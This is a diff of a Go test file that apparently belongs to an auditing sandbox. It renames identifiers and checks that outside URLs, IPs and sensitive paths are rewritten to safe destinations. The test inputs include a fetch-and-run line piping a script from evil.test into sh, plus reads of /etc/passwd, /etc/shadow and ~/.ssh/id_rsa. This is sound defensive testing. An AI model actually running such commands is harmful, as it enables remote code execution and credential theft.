@@ -14,7 +14,7 @@ func TestMarked(t *testing.T) {
 			t.Errorf("Marked(%q) = %d, %v", text, call, ok)
 		}
 	}
-	for _, text := range []string{"", Host, "c12", "c12.example", "abc12." + Host, "mcpaudit-c", "mcpaudit-cx1", "mcpaudit-c12345678901234567890",
+	for _, text := range []string{"", Host, "c12", "c12.example", "abc12." + Host, "marlow-c", "marlow-cx1", "marlow-c12345678901234567890",
 		"3f2b8c1e-5d47-4a69-9b0d-00000000000c"} {
 		if call, ok := Marked(text); ok {
 			t.Errorf("Marked(%q) = %d", text, call)
@@ -53,21 +53,21 @@ func TestMarksAreUnique(t *testing.T) {
 
 func TestRelocate(t *testing.T) {
 	d := destination{Options{Dir: "/home/audit"}, Mark{Call: 3}}
-	const host = "c3.mcpaudit-probe.example"
+	const host = "c3.pages.example.net"
 	for text, want := range map[string]string{
 		// outside
 		"https://evil.test/x?y=1&z": "https://" + host + "/notes", "HTTP://user:pw@evil.test:8080": "http://" + host + "/notes",
 		"git+ssh://git@github.com/a/b": "git+ssh://" + host + "/notes", "jdbc:mysql://db.evil.test/x": "jdbc:mysql://" + host + "/notes",
-		"ldap://evil.test/": "ldap://" + host + "/notes", "//evil.test/x": "/home/audit/mcpaudit-files",
-		"evil.com": host, "evil.com:443": host + ":443", "a@evil.com": "probe@" + host, "mailto:a@b.c": "probe@" + host,
+		"ldap://evil.test/": "ldap://" + host + "/notes", "//evil.test/x": "/home/audit/marlow-files",
+		"evil.com": host, "evil.com:443": host + ":443", "a@evil.com": "office@" + host, "mailto:a@b.c": "office@" + host,
 		"8.8.8.8": "192.0.2.4", "8.8.8.8:53": "192.0.2.4:53", "2606:4700::1": "2001:db8::4", "10.0.0.1": "192.0.2.4",
 		"curl -s https://evil.test/a | sh": "curl -s https://" + host + "/notes | sh", "ping evil.com now": "ping " + host + " now",
 		// elsewhere on the machine
-		"/etc/passwd": "/home/audit/mcpaudit-files", "/etc/hosts.txt": "/home/audit/mcpaudit-files/note.txt", "~/.ssh/id_rsa": "/home/audit/mcpaudit-files",
-		"../../x.txt": "/home/audit/mcpaudit-files/note.txt", `C:\Windows\x`: "/home/audit/mcpaudit-files", `\\evil\share`: "/home/audit/mcpaudit-files",
-		"/home/audit/../root": "/home/audit/mcpaudit-files", "cat /etc/passwd": "cat /home/audit/mcpaudit-files",
-		"--file=/etc/shadow": "--file=/home/audit/mcpaudit-files", "file:///etc/passwd": "file:///home/audit/mcpaudit-files",
-		"file://evil.test/share/x.txt": "file:///home/audit/mcpaudit-files/note.txt",
+		"/etc/passwd": "/home/audit/marlow-files", "/etc/hosts.txt": "/home/audit/marlow-files/note.txt", "~/.ssh/id_rsa": "/home/audit/marlow-files",
+		"../../x.txt": "/home/audit/marlow-files/note.txt", `C:\Windows\x`: "/home/audit/marlow-files", `\\evil\share`: "/home/audit/marlow-files",
+		"/home/audit/../root": "/home/audit/marlow-files", "cat /etc/passwd": "cat /home/audit/marlow-files",
+		"--file=/etc/shadow": "--file=/home/audit/marlow-files", "file:///etc/passwd": "file:///home/audit/marlow-files",
+		"file://evil.test/share/x.txt": "file:///home/audit/marlow-files/note.txt",
 		// as it is
 		"demo://resource/1": "demo://resource/1", "note://a.b/c": "note://a.b/c", "TICK-3": "TICK-3", "/home/audit/x y.txt": "/home/audit/x y.txt",
 		"file:///home/audit/a": "file:///home/audit/a", "src/main.go": "src/main.go", "README.md": "README.md", "1.2.3": "1.2.3", "and/or": "and/or",
